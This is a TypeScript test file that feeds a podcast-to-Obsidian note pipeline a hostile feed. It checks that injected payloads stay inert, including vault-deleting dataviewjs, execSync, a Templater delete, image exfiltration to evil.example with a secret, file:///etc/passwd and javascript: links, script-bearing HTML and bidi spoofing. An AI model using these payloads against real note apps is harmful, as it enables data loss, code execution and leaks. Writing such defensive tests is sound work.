import { readdirSync, readFileSync } from 'node:fs'
import { basename, join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { parse as parseYaml } from 'yaml'
import type { Episode } from '#shared/contract/episodes.ts'
import type { Note } from '#shared/contract/notes.ts'
import type { TemplateSummary } from '#shared/contract/templates.ts'
import { quotationsOf } from '../extraction/offline/fixtures/markdown-reader.ts'
import { riverGauge } from '../extraction/offline/fixtures/talk.ts'
import { harm } from '../notes/fixtures/harm.ts'
import { withoutFrontmatter } from '../notes/frontmatter.ts'
import { asFeed, everythingUnder, feedOf, type HostileHouse, openHostileHouse } from './hostile-house.ts'

/** By the number in the list of attacks; each is put into every text that comes from outside. */
const attacks: Readonly<Record<string, string>> = {
  '95 dataviewjs': '```dataviewjs\napp.vault.adapter.remove("x")\n``` and `$= dv.pages()` and `= this.file.name`',
  '96 tasks': "```tasks\nfilter by function require('child_process').execSync('touch /tmp/x')\n```",
  '97 Templater': '<% tp.system.prompt() %> <%* await tp.file.delete() %>',
  '98 buttons and engines':
    '```button\naction x\n```\n~~~js-engine\nx\n~~~\n```run-python\nx\n``` `INPUT[text:x]` `BUTTON[x]`',
  '99 end of the frontmatter': 'Title\n---\ncssclasses: x\nalias: "]]"\n---\n# Mine: yes & *no',
  '100 wikilinks': '#x]] ]]| [[../../Private]] ![[Passwords]] ![[x.pdf]] [[a|b]]',
  '101 remote image': '![](http://evil.example/?q=SECRET) ![a][r]\n\n[r]: http://evil.example/y',
  '102 links that start programs':
    '[x](obsidian://open?vault=v) [x](file:///etc/passwd) [x](javascript:alert(1)) <obsidian://x>',
  '103 raw HTML':
    '<iframe src="http://evil.example"></iframe><audio autoplay src=http://evil.example><video><img src=x onerror=alert(1)><script>x</script>',
  '104 comments, blocks, diagrams, formulas':
    '%% inkwell:end summary %% ^block-id\n```mermaid\nclick a href "javascript:alert(1)"\n```\n$$\\def\\loop{\\loop\\loop}\\loop$$',
  '108 letters that deceive': 'Approve \u202etnemyap\u202c \u2066now\u2069 аррle',
}
const everything = Object.values(attacks).join(' ')

let home: HostileHouse
let folder: string
let episodeId: string
let said: string
beforeAll(async () => {
  home = await openHostileHouse()
  const list = Object.values(attacks)
  const { segments, chapters } = riverGauge()
  const spoken = segments.map((segment, index) => ({
    startTime: segment.startSeconds,
    endTime: segment.endSeconds,
    speaker: `${segment.speaker} ${list[index % list.length]!.slice(0, 60)}`,
    body: index % 3 === 0 ? `${segment.text} ${list[(index / 3) % list.length]}` : segment.text,
  }))
  said = spoken.map(({ body }) => body).join(' ')
  home.routes['/talk.json'] = { body: JSON.stringify({ version: '1.0.0', segments: spoken }) }
  home.routes['/chapters.json'] = {
    body: JSON.stringify({
      version: '1.2.0',
      chapters: chapters.map(({ startSeconds, title }, index) => ({
        startTime: startSeconds,
        title: `${list[index % list.length]} ${title}`,
        url: 'javascript:alert(1)',
      })),
    }),
  }
  const xml = (text: string): string => text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/"/g, '&quot;')
  home.routes['/hostile.xml'] = asFeed(
    feedOf(
      [
        {
          title: everything,
          guid: everything,
          inside: `<description>${xml(everything)}</description><link>javascript:alert(1)</link><enclosure url="${home.at('/a.mp3')}?x=%25%25&amp;y=[[z]]&amp;)" type="audio/mpeg" length="1"/><podcast:person role="${xml(everything.slice(0, 50))}">${xml(everything)}</podcast:person><podcast:transcript url="${home.at('/talk.json')}" type="application/json"/><podcast:chapters url="${home.at('/chapters.json')}" type="application/json+chapters"/><pubDate>Mon, 02 Nov 2026 10:00:00 GMT</pubDate>`,
        },
      ],
      { title: everything, channel: '<language>en</language>' },
    ),
  )
  const feed = await home.follow('/hostile.xml')
  episodeId = (await home.episodes(feed.id))[0]!.id
  const all = (await home.ask<TemplateSummary[]>('templates.list')).map(({ name }) => name)
  const job = await home.process(episodeId, all)
  if (job.state !== 'done') throw new Error(`${job.words} ${job.error?.message}`)
  folder = join(
    home.vaultPath,
    ...readdirSync(home.vaultPath),
    readdirSync(join(home.vaultPath, readdirSync(home.vaultPath)[0]!))[0]!,
  )
})
afterAll(() => home.close())

const files = (): [name: string, text: string][] =>
  readdirSync(folder).map((name) => [name, readFileSync(join(folder, name), 'utf8')])
const markdown = () => files().filter(([name]) => name.endsWith('.md'))

describe('what stands in the vault after a hostile episode', () => {
  it('is eight notes, the transcript and the metadata, and nothing else', () => {
    expect(files()).toHaveLength(10)
    expect(everythingUnder(home.vaultPath)).toHaveLength(12)
    home.expectHarmless()
  })

  it.each(Object.keys(attacks))('%s does nothing in any of them', (name) => {
    const number = Number(name.split(' ')[0])
    for (const [file, text] of markdown()) {
      const body = withoutFrontmatter(text)
      expect(harm(body), file).toEqual([])
      if (number === 95 || number === 98) expect(/^\s*(?:```|~~~)(?!text|$)\S/m.test(body), file).toBe(false)
      // Templater reads the frontmatter too; a property in brackets is a link.
      if (number === 97) expect(/<%/.test(text), file).toBe(false)
      if (number === 100) expect(/(?<!\\)\[\[/.test(text), file).toBe(false)
      if (number === 104) expect(/%%\s*inkwell|(?<!\\)\$\$|[^\\\s]\s\^block-id/.test(body), file).toBe(false)
      if (number === 108) expect(/[\u202a-\u202e\u2066-\u2069]/.test(text), file).toBe(false)
    }
  })

  it('99 the frontmatter reads back as the one mapping it was meant to be', () => {
    for (const [file, text] of markdown()) {
      const [, yaml = ''] = /^---\n([\s\S]*?)\n---\n/.exec(text) ?? []
      const values = parseYaml(yaml, { schema: 'failsafe' }) as Record<string, unknown>
      expect(Object.keys(values), file).not.toContain('cssclasses')
      expect(Object.keys(values), file).not.toContain('alias')
      expect(values.podcast).toMatch(/dataviewjs/)
      expect(text.split('\n').filter((line) => line === '---').length, file).toBe(2)
    }
    const metadata = readFileSync(join(folder, '.metadata.yaml'), 'utf8')
    expect(Object.keys(parseYaml(metadata) as object)).not.toContain('cssclasses')
  })

  it('100 and 105 no name in the vault links, hides or instructs', () => {
    for (const path of everythingUnder(home.vaultPath)) {
      expect(basename(path)).not.toMatch(/[[\]#^|\\/:]|^(?:CLAUDE|AGENTS)\.md$/)
      expect(basename(path) === '.metadata.yaml' || !basename(path).startsWith('.')).toBe(true)
    }
  })

  it('107 every quotation was said, word for word', () => {
    const plain = (text: string): string =>
      text
        .normalize('NFKC')
        .replace(/[^\p{L}\p{N}]+/gu, ' ')
        .toLowerCase()
        .trim()
    const quotes = quotationsOf(files().find(([name]) => name === 'quotes.md')![1])
    expect(quotes.length).toBeGreaterThan(2)
    for (const quote of quotes) {
      const words = plain(quote.split(/\s—\s/)[0]!)
      expect(plain(said)).toContain(words.split(' ').slice(0, 8).join(' '))
    }
  })

  it('is what the page is given too, without addresses that start programs', async () => {
    for (const { id } of await home.ask<Note[]>('notes.list', { episodeId })) {
      const { markdown: text } = await home.ask<{ markdown: string }>('notes.read', { noteId: id })
      expect(harm(text)).toEqual([])
    }
    const episode = await home.ask<Episode>('episodes.get', { episodeId })
    expect(episode.link).toBeNull()
    expect(episode.chapters.every(({ url }) => url === null)).toBe(true)
  })
})

describe('106 makers of notes that fail', () => {
  it('a template that needs a model writes nothing and says so', async () => {
    await home.ask('templates.save', { yaml: 'name: needs-model\nuser_prompt_template: "{{ transcript }}"\n' })
    const before = files()
    expect(await home.process(episodeId, ['needs-model'])).toMatchObject({
      state: 'failed',
      costMicroUsd: 0,
      error: { code: 'needs-model' },
    })
    expect(files()).toEqual(before)
    home.expectHarmless()
  })
})
